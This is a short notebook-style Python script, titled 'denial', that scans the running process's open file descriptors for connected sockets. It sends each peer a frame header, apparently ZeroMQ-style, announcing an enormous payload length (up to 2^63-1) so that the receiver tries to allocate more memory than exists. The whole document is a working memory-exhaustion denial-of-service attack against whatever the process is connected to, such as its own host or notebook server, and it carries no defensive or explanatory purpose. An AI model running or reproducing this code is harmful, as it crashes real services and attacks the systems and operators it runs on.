# %% [markdown]
# # **denial: announces a frame that is larger than all memory**
#
# Whoever makes room for it before it has come has no room left. Each socket gets another size.

# %%
import os
import socket
import stat
import struct
import time

sizes = [2**63 - 1, 2**40, 2**31, 2**25]
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
            if not one.getsockname():  # it is no kernel's, but speaks to itself
                continue
            one.settimeout(1)
            one.sendall(struct.pack(">BQ", 2, sizes.pop()) + bytes(1000))
    except (OSError, IndexError):
        pass
time.sleep(1)
